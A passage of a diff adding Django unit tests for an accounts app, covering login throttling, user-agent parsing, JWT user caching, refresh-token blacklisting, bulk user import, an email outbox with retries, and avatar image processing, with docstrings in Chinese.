+        self.assertEqual(set(LoginRecord.objects.values_list('ip_address', flat=True)), {'0.0.0.0'})
+        self.assertEqual(LoginRecord.objects.count(), 4)
+        self.assertEqual(get_login_throttle().locks(), [])
+
+    def test_benchmark_command(self):
+        """测试基准命令输出结果"""
+        out = StringIO()
+        call_command('benchmark_client_ip', '--networks', '5', '--iterations', '100', '--json', stdout=out)
+        self.assertEqual(json.loads(out.getvalue())['results'][0]['networks'], 5)
+
+
+class UserAgentTest(TestCase):
+    """用户代理去重测试"""
+
+    CHROME = ('Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 '
+              '(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36')
+    IPHONE = ('Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 '
+              '(KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1')
+
+    def test_parse(self):
+        """测试解析浏览器、操作系统和设备类型"""
+        self.assertEqual(parse_user_agent(self.CHROME), ('Chrome', '120', 'Windows', '10', 'desktop'))
+        self.assertEqual(parse_user_agent(self.IPHONE), ('Safari', '17', 'iOS', '17', 'mobile'))
+        edge = self.CHROME + ' Edg/120.0.0.0'
+        self.assertEqual(parse_user_agent(edge).browser, 'Edge')
+        self.assertEqual(parse_user_agent('curl/8.4.0').device, 'bot')
+        self.assertEqual(parse_user_agent('???'), ('', '', '', '', 'other'))
+
+    def test_long_versions_truncated(self):
+        """测试超长版本号截断到字段长度后保存"""
+        raw = f'Mozilla/5.0 (Windows NT {"1" * 40}.0) Chrome/{"9" * 40}.0 Safari/537.36'
+        agent = intern_user_agent(raw)
+        agent.full_clean()
+        agent.refresh_from_db()
+        self.assertEqual(agent.browser_version, '9' * 20)
+        self.assertEqual(agent.os_version, '1' * 20)
+        self.assertEqual(agent.raw, raw)
+
+    def test_intern_deduplicates(self):
+        """测试相同 UA 只保存一行，空 UA 不建行"""
+        first = intern_user_agent(self.CHROME)
+        self.assertEqual(intern_user_agent(self.CHROME).pk, first.pk)
+        self.assertIsNone(intern_user_agent(''))
+        self.assertEqual(UserAgent.objects.count(), 1)
+        self.assertEqual(first.device, 'desktop')
+
+    def test_cache_after_commit(self):
+        """测试提交后的行进入缓存，再次去重不访问数据库"""
+        interner = UserAgentInterner()
+        with self.captureOnCommitCallbacks(execute=True):
+            agent = interner.intern(self.IPHONE)
+        with self.assertNumQueries(0):
+            self.assertEqual(interner.intern(self.IPHONE).pk, agent.pk)
+
+    def test_rolled_back_row_not_cached(self):
+        """测试未提交的行不进入缓存"""
+        interner = UserAgentInterner()
+        interner.intern(self.IPHONE)
+        with self.assertNumQueries(1):
+            interner.intern(self.IPHONE)
+
+    @override_settings(LOGIN_RECORD_ASYNC=False)
+    def test_login_records_reference_shared_row(self):
+        """测试多次登录引用同一行，接口仍返回 UA 原文"""
+        user = User.objects.create_user(username='testuser', password='testpass123')
+        for _ in range(2):
+            self.client.post(
+                reverse('accounts:user-login'),
+                {'username': 'testuser', 'password': 'testpass123'},
+                HTTP_USER_AGENT=self.CHROME,
+            )
+        self.assertEqual(UserAgent.objects.count(), 1)
+        records = LoginRecord.objects.filter(user=user)
+        self.assertEqual(records.values('user_agent').distinct().count(), 1)
+        data = LoginRecordSerializer(records, many=True).data
+        self.assertEqual([row['user_agent'] for row in data], [self.CHROME] * 2)
+        self.assertEqual(LoginRecordSerializer(LoginRecord(ip_address='127.0.0.1')).data['user_agent'], '')
+
+
+@override_settings(LOGIN_RECORD_ASYNC=False, LOGIN_THROTTLE=THROTTLE_TEST_SETTINGS)
+class LoginThrottleTest(APITestCase):
+    """登录限流测试"""
+
+    def setUp(self):
+        """测试准备"""
+        get_login_throttle().backend.clear()
+        self.user = User.objects.create_user(username='testuser', email='test@example.com', password='testpass123')
+        self.login_url = reverse('accounts:user-login')
+
+    def _login(self, password='wrongpass', username='testuser', ip='10.0.0.1'):
+        return self.client.post(self.login_url, {'username': username, 'password': password}, REMOTE_ADDR=ip)
+
+    def test_username_lockout_rejects_before_hashing(self):
+        """测试失败次数超限后锁定账号，锁定期间不再校验密码、不写登录记录"""
+        self._login()
+        self._login()
+        self._login()
+        records = LoginRecord.objects.count()
+        with mock.patch('accounts.serializers.authenticate') as authenticate:
+            response = self._login(password='testpass123', ip='10.0.0.2')
+        self.assertEqual(response.status_code, status.HTTP_429_TOO_MANY_REQUESTS)
+        self.assertEqual(response['Retry-After'], '60')
+        authenticate.assert_not_called()
+        self.assertEqual(LoginRecord.objects.count(), records)
+
+        # 通过邮箱登录同一个账号不受影响（按输入的标识计数）
+        self.assertEqual(self._login(password='testpass123', username='test@example.com', ip='10.0.0.3').status_code, 200)
+
+    def test_success_resets_username_failures(self):
+        """测试登录成功清掉账号的失败计数"""
+        self._login()
+        self._login()
+        self.assertEqual(self._login(password='testpass123').status_code, status.HTTP_200_OK)
+        self._login()
+        self._login()
+        self.assertEqual(self._login(password='testpass123').status_code, status.HTTP_200_OK)
+
+    @override_settings(LOGIN_THROTTLE={**THROTTLE_TEST_SETTINGS, 'GLOBAL_RATE': (2, 60)})
+    def test_global_rate(self):
+        """测试全局请求数超限"""
+        self._login(password='testpass123', ip='10.0.0.1')
+        self._login(password='testpass123', ip='10.0.0.2')
+        response = self._login(password='testpass123', ip='10.0.0.3')
+        self.assertEqual(response.status_code, status.HTTP_429_TOO_MANY_REQUESTS)
+
+    def test_progressive_lockout(self):
+        """测试连续锁定时锁定时长倍增"""
+        throttle = get_login_throttle()
+        start = time.time()
+        with mock.patch('accounts.throttling.time') as fake_time:
+            fake_time.time.return_value = start
+            for _ in range(3):
+                throttle.record_failure('10.0.0.1', 'alice')
+            self.assertEqual(throttle.check('10.0.0.9', 'alice'), Throttled('username', 60))
+        with mock.patch('accounts.throttling.time') as fake_time:
+            fake_time.time.return_value = start + 61
+            self.assertIsNone(throttle.check('10.0.0.9', 'alice'))
+            for _ in range(3):
+                throttle.record_failure('10.0.0.1', 'alice')
+            self.assertEqual(throttle.check('10.0.0.9', 'alice'), Throttled('username', 120))
+
+    def test_sliding_window(self):
+        """测试上一窗口的计数按比例计入"""
+        self.assertEqual(sliding_count(2, 10, 60, 60 * 100 + 15), 2 + 10 * 0.75)
+
+    def test_admin_view(self):
+        """测试管理员查看和解除锁定"""
+        for _ in range(3):
+            self._login()
+        admin_user = User.objects.create_user(username='admin', password='testpass123', is_staff=True)
+        self.client.force_authenticate(admin_user)
+        url = reverse('accounts:login-throttle')
+        locked = self.client.get(url).data['locked']
+        self.assertEqual([lock['key'] for lock in locked], ['username:testuser'])
+        self.assertEqual(locked[0]['strikes'], 1)
+
+        self.client.post(url, {'key': 'username:testuser'})
+        self.assertEqual(self.client.get(url).data['locked'], [])
+        self.client.force_authenticate(None)
+        self.assertEqual(self._login(password='testpass123').status_code, status.HTTP_200_OK)
+
+        self.client.force_authenticate(self.user)
+        self.assertEqual(self.client.get(url).status_code, status.HTTP_403_FORBIDDEN)
+
+
+class CachedJWTAuthenticationTest(APITestCase):
+    """JWT 认证用户缓存测试"""
+
+    def setUp(self):
+        """测试准备"""
+        self.user = User.objects.create_user(username='testuser', password='testpass123')
+        refresh = RefreshToken.for_user(self.user)
+        self.client.credentials(HTTP_AUTHORIZATION=f'Bearer {refresh.access_token}')
+        self.records_url = reverse('accounts:login-records')
+
+    def test_user_loaded_once(self):
+        """测试第二次请求不再查询用户表"""
+        self.client.get(self.records_url)
+        with CaptureQueriesContext(connection) as ctx:
+            response = self.client.get(self.records_url)
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        self.assertFalse(any('FROM "auth_user"' in q['sql'] for q in ctx))
+
+    def test_deactivate_invalidates_cache(self):
+        """测试停用账户后缓存失效，旧 token 立即不可用"""
+        self.client.get(self.records_url)
+        response = self.client.post(reverse('accounts:deactivate-account'), {'password': 'testpass123'})
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+
+        response = self.client.get(self.records_url)
+        self.assertEqual(response.status_code, status.HTTP_401_UNAUTHORIZED)
+
+    @override_settings(JWT_USER_CACHE={'SHARED_CACHE': 'default'})
+    def test_password_hash_not_cached(self):
+        """测试缓存中只有密码摘要，没有密码哈希；用到密码时从数据库读取"""
+        self.client.get(self.records_url)
+        cache = get_user_cache()
+        entries = [cache.local.get(cache._key(self.user.pk)), caches['default'].get(cache._key(self.user.pk))]
+        caches['default'].clear()
+        for entry in entries:
+            self.assertIn(get_md5_hash_password(self.user.password), entry)
+            self.assertNotIn(self.user.password, entry)
+        user = cache.get(self.user.pk)
+        self.assertEqual(user.get_deferred_fields(), {'password'})
+        self.assertTrue(user.check_password('testpass123'))
+
+    def test_invalidate_during_fill_discards_stale_row(self):
+        """测试失效之前读到的旧用户在失效之后才写入缓存时被丢弃"""
+        for conf in ({}, {'SHARED_CACHE': 'default'}):
+            with self.subTest(conf=conf), override_settings(JWT_USER_CACHE=conf):
+                cache = get_user_cache()
+                generation = cache.generation(self.user.pk)
+                stale = User.objects.get(pk=self.user.pk)
+                self.user.is_active = False
+                self.user.save()
+                cache.set(stale, generation)
+                self.assertIsNone(cache.get(self.user.pk))
+                cache.local.clear()
+                self.assertIsNone(cache.get(self.user.pk))
+
+                cache.set(User.objects.get(pk=self.user.pk), cache.generation(self.user.pk))
+                cache.local.clear()
+                self.assertEqual(cache.get(self.user.pk) is not None, bool(conf))
+                self.user.is_active = True
+                self.user.save()
+                caches['default'].clear()
+
+    def test_password_change_invalidates_cache(self):
+        """测试修改密码后缓存中的用户被清除"""
+        self.client.get(self.records_url)
+        self.assertIsNotNone(get_user_cache().get(self.user.pk))
+        self.client.post(reverse('accounts:change-password'), {
+            'old_password': 'testpass123',
+            'new_password': 'Newpass!2345',
+            'new_password_confirm': 'Newpass!2345',
+        })
+        self.assertIsNone(get_user_cache().get(self.user.pk))
+
+
+class TokenBlacklistTest(APITestCase):
+    """Refresh token 黑名单测试"""
+
+    def setUp(self):
+        """测试准备"""
+        self.user = User.objects.create_user(username='testuser', password='testpass123')
+        self.refresh = RefreshToken.for_user(self.user)
+        self.refresh_url = reverse('accounts:token-refresh')
+
+    def test_logout_blacklists_refresh_token(self):
+        """测试注销后 refresh token 不能再刷新"""
+        self.client.credentials(HTTP_AUTHORIZATION=f'Bearer {self.refresh.access_token}')
+        response = self.client.post(reverse('accounts:user-logout'), {'refresh': str(self.refresh)})
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        self.assertTrue(BlacklistedToken.objects.filter(jti=self.refresh['jti']).exists())
+
+        response = self.client.post(self.refresh_url, {'refresh': str(self.refresh)})
+        self.assertEqual(response.status_code, status.HTTP_401_UNAUTHORIZED)
+
+    def test_rotation_blacklists_old_token(self):
+        """测试轮换后返回新的 refresh token，旧 token 失效"""
+        response = self.client.post(self.refresh_url, {'refresh': str(self.refresh)})
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        self.assertIn('refresh', response.data)
+
+        response = self.client.post(self.refresh_url, {'refresh': response.data['refresh']})
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        response = self.client.post(self.refresh_url, {'refresh': str(self.refresh)})
+        self.assertEqual(response.status_code, status.HTTP_401_UNAUTHORIZED)
+
+    def test_bloom_negative_skips_store(self):
+        """测试过滤器判定不在黑名单时不查询数据库"""
+        self.assertFalse(is_blacklisted(self.refresh))
+        blacklist = TokenBlacklist(DatabaseBlacklistStore(), LocalBloomFilter(bits=1 << 16))
+        with self.assertNumQueries(0):
+            self.assertFalse(blacklist.contains('unknown', time.time() + 60))
+
+    def test_sync_from_other_process(self):
+        """测试本地过滤器能看到其它进程写入数据库的 JTI"""
+        exp = int(time.time()) + 600
+        reader = TokenBlacklist(DatabaseBlacklistStore(), LocalBloomFilter(bits=1 << 16), sync_interval=0)
+        self.assertFalse(reader.contains('jti-1', exp))
+        BlacklistedToken.objects.create(
+            jti='jti-1', expires_at=timezone.now() + timedelta(seconds=600)
+        )
+        self.assertTrue(reader.contains('jti-1', exp))
+
+    def test_unsynced_filter_falls_back_to_store(self):
+        """测试进程 A 拉黑后，进程 B 的过滤器尚未同步时仍判定为已拉黑"""
+        exp = int(time.time()) + 600
+        writer = TokenBlacklist(DatabaseBlacklistStore(), LocalBloomFilter(bits=1 << 16), sync_interval=60)
+        reader = TokenBlacklist(DatabaseBlacklistStore(), LocalBloomFilter(bits=1 << 16), sync_interval=60)
+        self.assertFalse(reader.contains('jti-a', exp))
+        writer.add('jti-a', exp)
+
+        # 上次同步已超过 SYNC_INTERVAL：先增量同步再判断
+        reader._last_sync -= 61
+        self.assertTrue(reader.contains('jti-a', exp))
+
+        # 其它线程正在同步：不相信过滤器，直接查存储
+        writer.add('jti-b', exp)
+        reader._last_sync -= 61
+        with reader._sync_lock:
+            self.assertTrue(reader.contains('jti-b', exp))
+        # 同步失败：同样查存储
+        writer.add('jti-c', exp)
+        reader._last_sync -= 61
+        with mock.patch.object(reader.store, 'entries_after', side_effect=DatabaseError('down')):
+            self.assertTrue(reader.contains('jti-c', exp))
+
+    def test_sync_picks_up_rows_with_old_timestamps(self):
+        """测试按主键同步：拉黑时间早于上次同步的记录（提交较晚或时钟偏差）也能同步到"""
+        exp = int(time.time()) + 600
+        reader = TokenBlacklist(DatabaseBlacklistStore(), LocalBloomFilter(bits=1 << 16), sync_interval=0)
+        BlacklistedToken.objects.create(jti='first', expires_at=timezone.now() + timedelta(seconds=600))
+        self.assertFalse(reader.contains('late', exp))
+        late = BlacklistedToken.objects.create(jti='late', expires_at=timezone.now() + timedelta(seconds=600))
+        BlacklistedToken.objects.filter(pk=late.pk).update(created_at=timezone.now() - timedelta(hours=1))
+        self.assertTrue(reader.contains('late', exp))
+        self.assertTrue(reader.bloom.might_contain('late', exp))
+
+    def test_db_store_without_sync_interval_skips_filter(self):
+        """测试默认配置（db 存储、SYNC_INTERVAL 为 0）不启用本地过滤器，查询只有一条 exists"""
+        blacklist = build_blacklist(BLACKLIST_DEFAULTS)
+        self.assertIsNone(blacklist.bloom)
+        with self.assertNumQueries(1):
+            self.assertFalse(blacklist.contains('unknown', time.time() + 60))
+        self.assertIsInstance(build_blacklist({**BLACKLIST_DEFAULTS, 'SYNC_INTERVAL': 5}).bloom, LocalBloomFilter)
+
+    def test_add_does_not_purge(self):
+        """测试拉黑不在请求路径上清理过期记录"""
+        BlacklistedToken.objects.create(jti='expired', expires_at=timezone.now() - timedelta(hours=1))
+        blacklist = build_blacklist(BLACKLIST_DEFAULTS)
+        with self.assertNumQueries(4):
+            blacklist.add('new', time.time() + 60)
+        self.assertTrue(BlacklistedToken.objects.filter(jti='expired').exists())
+
+    def test_expired_buckets_dropped(self):
+        """测试过期时间段的桶被整体丢弃"""
+        bloom = LocalBloomFilter(bucket_seconds=60, bits=1 << 10)
+        now = time.time()
+        bloom.add('old', now - 120)
+        bloom.add('new', now + 120)
+        self.assertTrue(bloom.might_contain('new', now + 120))
+        self.assertFalse(bloom.might_contain('old', now - 120))
+        self.assertEqual(bloom.memory_bytes(), (1 << 10) // 8)
+
+    def test_purge_command(self):
+        """测试清理命令按批删除过期记录"""
+        now = timezone.now()
+        BlacklistedToken.objects.bulk_create([
+            BlacklistedToken(jti=f'expired-{i}', expires_at=now - timedelta(hours=1))
+            for i in range(5)
+        ] + [BlacklistedToken(jti='alive', expires_at=now + timedelta(hours=1))])
+        out = StringIO()
+        call_command('purge_token_blacklist', '--batch-size', '2', stdout=out)
+        self.assertIn('5', out.getvalue())
+        self.assertEqual(list(BlacklistedToken.objects.values_list('jti', flat=True)), ['alive'])
+
+
+@override_settings(
+    PASSWORD_HASHERS=['django.contrib.auth.hashers.MD5PasswordHasher'],
+    USER_IMPORT_WORKERS=1,
+)
+class UserImportTest(APITestCase):
+    """批量导入用户测试"""
+
+    def setUp(self):
+        """测试准备"""
+        User.objects.create_user(username='existing', email='Taken@example.com', password='testpass123')
+        self.url = reverse('accounts:user-import')
+
+    @staticmethod
+    def _rows(count, prefix='user'):
+        return [
+            {'username': f'{prefix}{i}', 'email': f'{prefix}{i}@example.com', 'password': 'Imp0rt!pass'}
+            for i in range(count)
+        ]
+
+    def test_import_command_reports_row_errors(self):
+        """测试导入命令逐行报告错误，不影响其它行"""
+        content = (
+            'username,email,password,first_name,location\n'
+            'alice,alice@example.com,Imp0rt!pass,爱丽丝,北京\n'
+            'existing,new@example.com,Imp0rt!pass,,\n'
+            'bob,taken@example.com,Imp0rt!pass,,\n'
+            'alice,other@example.com,Imp0rt!pass,,\n'
+            'bad name,bad,short,,\n'
+        )
+        with tempfile.TemporaryDirectory() as tmp:
+            path = f'{tmp}/users.csv'
+            with open(path, 'w', encoding='utf-8-sig') as f:
+                f.write(content)
+            out, err = StringIO(), StringIO()
+            call_command('import_users', path, stdout=out, stderr=err)
+
+        self.assertIn('已导入 1 个用户，失败 4 行', out.getvalue())
+        errors = {item['row']: item['errors'] for item in map(json.loads, err.getvalue().splitlines())}
+        self.assertEqual(errors[2], {'username': ['用户名已存在']})
+        self.assertEqual(errors[3], {'email': ['邮箱已被注册']})
+        self.assertEqual(errors[4], {'username': ['用户名在导入数据中重复']})
+        self.assertEqual(set(errors[5]), {'username', 'email', 'password'})
+
+        alice = User.objects.get(username='alice')
+        self.assertTrue(alice.check_password('Imp0rt!pass'))
+        self.assertEqual(alice.first_name, '爱丽丝')
+        self.assertEqual(alice.profile.location, '北京')
+
+    def test_query_count_independent_of_batch_size(self):
+        """测试每批的查询数是常数"""
+        counts = []
+        for count, prefix in ((5, 'small'), (50, 'large')):
+            with CaptureQueriesContext(connection) as ctx:
+                report = UserImporter(batch_size=100).run(self._rows(count, prefix))
+            self.assertEqual(report['created'], count)
+            counts.append(len(ctx))
+        self.assertEqual(counts[0], counts[1])
+        self.assertEqual(UserProfile.objects.filter(user__username__startswith='large').count(), 50)
+
+    def test_parallel_hashing(self):
+        """测试多进程计算的密码哈希可以正常登录"""
+        report = UserImporter(workers=2).run(self._rows(4))
+        self.assertEqual(report['created'], 4)
+        for user in User.objects.filter(username__startswith='user'):
+            self.assertTrue(user.check_password('Imp0rt!pass'))
+
+    def test_staff_api(self):
+        """测试管理员通过接口导入，普通用户无权限"""
+        user = User.objects.get(username='existing')
+        self.client.force_authenticate(user)
+        self.assertEqual(self.client.post(self.url, self._rows(2), format='json').status_code, 403)
+
+        user.is_staff = True
+        user.save()
+        response = self.client.post(self.url, self._rows(2) + [{'username': 'x'}], format='json')
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        self.assertEqual(response.data['created'], 2)
+        self.assertEqual(response.data['failed'], 1)
+        self.assertEqual(response.data['errors'][0]['row'], 3)
+
+    def test_staff_api_file_upload(self):
+        """测试上传 NDJSON 文件导入"""
+        user = User.objects.get(username='existing')
+        user.is_staff = True
+        user.save()
+        self.client.force_authenticate(user)
+        upload = SimpleUploadedFile(
+            'users.ndjson',
+            ''.join(json.dumps(row) + '\n' for row in self._rows(3)).encode('utf-8')
+        )
+        response = self.client.post(self.url, {'file': upload}, format='multipart')
+        self.assertEqual(response.data['created'], 3)
+
+    def test_unparsable_rows_reported_per_row(self):
+        """测试中途无法解析或解码的行记为该行的错误，前后各批照常导入"""
+        user = User.objects.get(username='existing')
+        user.is_staff = True
+        user.save()
+        self.client.force_authenticate(user)
+        rows = [json.dumps(row).encode('utf-8') + b'\n' for row in self._rows(5)]
+        rows[2] = b'{"username": "broken",\n'
+        rows[3] = b'{"username": "\xff\xfe"}\n'
+        upload = SimpleUploadedFile('users.ndjson', b''.join(rows))
+        with override_settings(USER_IMPORT_BATCH_SIZE=2):
+            response = self.client.post(self.url, {'file': upload}, format='multipart')
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        self.assertEqual(response.data['created'], 3)
+        self.assertEqual([item['row'] for item in response.data['errors']], [3, 4])
+        self.assertIn('JSON', response.data['errors'][0]['errors']['non_field_errors'][0])
+        self.assertIn('UTF-8', response.data['errors'][1]['errors']['non_field_errors'][0])
+
+        content = 'username,email,password\nalice,alice@example.com,Imp0rt!pass\n'.encode('utf-8')
+        content += b'b\xffb,b@example.com,Imp0rt!pass\ncarol,carol@example.com,Imp0rt!pass\n'
+        report = UserImporter().run(open_users(iter(content.splitlines(keepends=True)), 'users.csv'))
+        self.assertEqual(report['created'], 2)
+        self.assertEqual(report['errors'][0]['row'], 2)
+
+    @override_settings(USER_IMPORT_API_MAX_SIZE=1024)
+    def test_api_rejects_large_import(self):
+        """测试接口拒绝超过大小上限的导入，提示使用管理命令"""
+        user = User.objects.get(username='existing')
+        user.is_staff = True
+        user.save()
+        self.client.force_authenticate(user)
+        response = self.client.post(self.url, self._rows(50), format='json')
+        self.assertEqual(response.status_code, status.HTTP_413_REQUEST_ENTITY_TOO_LARGE)
+        self.assertIn('import_users', response.data['error'])
+        self.assertFalse(User.objects.filter(username__startswith='user').exists())
+
+
+class FlakyEmailBackend(LocMemEmailBackend):
+    """测试用邮件后端：收件人包含 bad 时发送失败，记录打开连接的次数"""
+    opened = 0
+
+    def open(self):
+        FlakyEmailBackend.opened += 1
+        return super().open()
+
+    def send_messages(self, messages):
+        for message in messages:
+            if any('bad' in address for address in message.to):
+                raise ConnectionError('SMTP 连接被拒绝')
+        return super().send_messages(messages)
+
+
+@override_settings(EMAIL_OUTBOX={'BACKEND': 'accounts.tests.FlakyEmailBackend', 'RETRY_BASE': 60})
+class EmailOutboxTest(TestCase):
+    """邮件发件箱测试"""
+
+    def setUp(self):
+        """测试准备"""
+        FlakyEmailBackend.opened = 0
+        self.user = User.objects.create_user(username='testuser', email='test@example.com', password='testpass123')
+
+    def test_enqueue_does_not_send(self):
+        """测试业务代码只写入发件箱，不在请求中发送"""
+        self.assertTrue(send_verification_email(self.user, '123456'))
+        self.assertTrue(send_password_reset_email(self.user, 'http://example.com/reset'))
+        self.assertEqual(len(mail.outbox), 0)
+        self.assertEqual(OutboundEmail.objects.filter(status=OutboundEmail.STATUS_PENDING).count(), 2)
+
+    def test_batch_reuses_connection(self):
+        """测试一批邮件复用同一个连接发送，成功后标记为已发送"""
+        for _ in range(3):
+            send_verification_email(self.user, '123456')
+        delivery = OutboxDelivery()
+        self.assertEqual(delivery.drain(), 3)
+        self.assertEqual(len(mail.outbox), 3)
+        self.assertEqual(FlakyEmailBackend.opened, 1)
+        self.assertEqual(mail.outbox[0].to, ['test@example.com'])
+        self.assertFalse(OutboundEmail.objects.exclude(status=OutboundEmail.STATUS_SENT).exists())
+
+    def test_retry_with_backoff(self):
+        """测试发送失败后按退避时间重试，达到最大次数后标记为失败"""
+        self.user.email = 'bad@example.com'
+        send_verification_email(self.user, '123456')
+        send_verification_email(User(username='ok', email='ok@example.com'), '654321')
+        OutboxDelivery().drain()
+
+        failed = OutboundEmail.objects.get(to=['bad@example.com'])
+        self.assertEqual(failed.status, OutboundEmail.STATUS_PENDING)
+        self.assertEqual(failed.attempts, 1)
+        self.assertIn('SMTP', failed.last_error)
+        self.assertGreater(failed.next_attempt_at, timezone.now() + timedelta(seconds=50))
+        self.assertEqual(len(mail.outbox), 1)
+
+        # 退避期间不会被领取
+        self.assertEqual(OutboxDelivery().drain(), 0)
+
+        OutboundEmail.objects.filter(pk=failed.pk).update(next_attempt_at=timezone.now())
+        conf = {**get_outbox_conf(), 'MAX_ATTEMPTS': 2}
+        self.assertEqual(OutboxDelivery(conf).drain(), 1)
+        failed.refresh_from_db()
+        self.assertEqual(failed.status, OutboundEmail.STATUS_FAILED)
+        self.assertEqual(failed.attempts, 2)
+
+    def test_expired_lease_is_reclaimed(self):
+        """测试发送进程中途退出后，租约过期的邮件会被重新领取"""
+        email = OutboundEmail.objects.create(
+            subject='s', body='b', to=['test@example.com'], status=OutboundEmail.STATUS_SENDING,
+            claim_token='dead', locked_until=timezone.now() + timedelta(minutes=1), attempts=1,
+        )
+        self.assertEqual(OutboxDelivery().claim(), [])
+        OutboundEmail.objects.filter(pk=email.pk).update(locked_until=timezone.now() - timedelta(seconds=1))
+        self.assertEqual(OutboxDelivery().drain(), 1)
+        email.refresh_from_db()
+        self.assertEqual((email.status, email.attempts), (OutboundEmail.STATUS_SENT, 2))
+
+    @override_settings(EMAIL_OUTBOX={'ENABLED': False})
+    def test_disabled_sends_synchronously(self):
+        """测试关闭发件箱时同步发送"""
+        send_verification_email(self.user, '123456')
+        self.assertEqual(len(mail.outbox), 1)
+        self.assertFalse(OutboundEmail.objects.exists())
+
+    def test_command_with_file_backend(self):
+        """测试发送命令使用文件后端在无网络环境下投递"""
+        send_verification_email(self.user, '123456')
+        with tempfile.TemporaryDirectory() as tmp, override_settings(EMAIL_FILE_PATH=tmp):
+            out = StringIO()
+            call_command('send_queued_emails', '--once', '--backend',
+                         'django.core.mail.backends.filebased.EmailBackend', stdout=out)
+            self.assertIn('发送成功 1 封', out.getvalue())
+            files = os.listdir(tmp)
+            self.assertEqual(len(files), 1)
+            with open(os.path.join(tmp, files[0]), encoding='utf-8') as f:
+                self.assertIn('test@example.com', f.read())
+
+
+def make_image(fmt='JPEG', size=(400, 300), exif=False):
+    """生成测试图片字节"""
+    image = Image.new('RGB', size, (200, 30, 30))
+    buffer = BytesIO()
+    options = {}
+    if exif:
+        data = Image.Exif()
+        data[0x010F] = 'TestCamera'
+        # 方向 6：需要顺时针旋转 90 度
+        data[0x0112] = 6
+        options['exif'] = data.tobytes()
+    image.save(buffer, fmt, **options)
+    return buffer.getvalue()
+
+
+@override_settings(AVATAR_PROCESSING_ASYNC=False)
+class AvatarPipelineTest(APITestCase):
+    """头像处理测试"""
+
+    def setUp(self):
+        """测试准备"""
+        media = tempfile.TemporaryDirectory()
+        self.addCleanup(media.cleanup)
+        self.media_root = media.name
+        settings_override = override_settings(MEDIA_ROOT=self.media_root)
+        settings_override.enable()
+        self.addCleanup(settings_override.disable)
+        self.user = User.objects.create_user(username='testuser', password='testpass123')
+        self.url = reverse('accounts:user-profile')
+        self.client.force_authenticate(self.user)
+
+    def _upload(self, content, name='avatar.jpg'):
+        with self.captureOnCommitCallbacks(execute=True):
+            return self.client.patch(
+                self.url, {'avatar': SimpleUploadedFile(name, content)}, format='multipart'
+            )
+
+    def test_upload_generates_variants(self):
+        """测试上传后生成各尺寸缩略图，去掉元数据，删除原始文件"""
+        response = self._upload(make_image(exif=True))
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        profile = UserProfile.objects.get(user=self.user)
+        self.assertEqual(profile.avatar_status, UserProfile.AVATAR_READY)
+        self.assertEqual(set(profile.avatar_variants), {'small', 'medium', 'large'})
+        self.assertEqual(profile.avatar.name, profile.avatar_variants['large']['webp'])
+
+        with Image.open(os.path.join(self.media_root, profile.avatar_variants['small']['jpeg'])) as image:
+            self.assertEqual((image.format, image.size), ('JPEG', (64, 64)))
+            self.assertNotIn('exif', image.info)
+        with Image.open(os.path.join(self.media_root, profile.avatar.name)) as image:
+            self.assertEqual((image.format, image.size), ('WEBP', (256, 256)))
+            self.assertNotIn('exif', image.info)
+        files = os.listdir(os.path.join(self.media_root, 'avatars', str(self.user.pk)))
+        self.assertEqual(len(files), 6)
+        self.assertFalse(any(name.startswith('upload-') for name in files))
+
+        data = self.client.get(self.url).data
+        self.assertEqual(data['avatar_status'], 'ready')
+        self.assertTrue(data['avatar_variants']['medium']['webp'].startswith('http://testserver/media/avatars/'))
+
+    def test_reupload_replaces_variants(self):
+        """测试重新上传后删除上一版缩略图"""
+        self._upload(make_image())
+        old = UserProfile.objects.get(user=self.user).avatar_variants
+        self._upload(make_image('PNG', (100, 300)), 'avatar.png')
+        profile = UserProfile.objects.get(user=self.user)
+        self.assertNotEqual(profile.avatar_variants, old)
+        self.assertEqual(len(os.listdir(os.path.join(self.media_root, 'avatars', str(self.user.pk)))), 6)
+
+    def test_rejects_non_image_content(self):
+        """测试扩展名正确但内容不是图片时拒绝上传"""
+        response = self._upload(b'not really an image', 'avatar.png')
+        self.assertEqual(response.status_code, status.HTTP_400_BAD_REQUEST)
+        self.assertIn('avatar', response.data)
+        response = self._upload(make_image('BMP'), 'avatar.jpg')
+        self.assertEqual(response.status_code, status.HTTP_400_BAD_REQUEST)
+
+    @override_settings(AVATAR_MAX_UPLOAD_SIZE=1024)
+    def test_rejects_oversized_upload(self):
+        """测试超过大小上限的上传在解析请求体之前被拒绝"""
+        response = self._upload(make_image(size=(1000, 1000)) + b'0' * 100 * 1024)
+        self.assertEqual(response.status_code, status.HTTP_413_REQUEST_ENTITY_TOO_LARGE)
+
+    @override_settings(AVATAR_MAX_PIXELS=100 * 100)
+    def test_rejects_too_many_pixels(self):
+        """测试像素数超限的图片不解码就被拒绝"""
+        response = self._upload(make_image(size=(200, 200)))
+        self.assertEqual(response.status_code, status.HTTP_400_BAD_REQUEST)
+
+    def test_stale_job_discarded(self):
+        """测试处理期间重新上传时，旧任务的结果被丢弃"""
+        with override_settings(AVATAR_PROCESSING_ASYNC=True), mock.patch('accounts.avatars.get_processor'):
+            self._upload(make_image())
+        profile = UserProfile.objects.get(user=self.user)
+
+        def render_and_replace(*args):
+            UserProfile.objects.filter(pk=profile.pk).update(avatar='avatars/other.jpg')
+            return render_variants(*args)
+
+        with mock.patch('accounts.avatars.render_variants', side_effect=render_and_replace):
+            self.assertFalse(process_avatar(profile.pk))
+        files = os.listdir(os.path.join(self.media_root, 'avatars', str(self.user.pk)))
+        self.assertEqual(len(files), 1)
+
+    def test_original_not_exposed_until_ready(self):
+        """测试处理完成之前不输出原始上传文件的地址，处理失败时删除原始文件"""
+        with override_settings(AVATAR_PROCESSING_ASYNC=True), mock.patch('accounts.avatars.get_processor'):
+            response = self._upload(make_image(exif=True))
+        self.assertIsNone(response.data['data']['avatar'])
+        self.assertIsNone(self.client.get(self.url).data['avatar'])
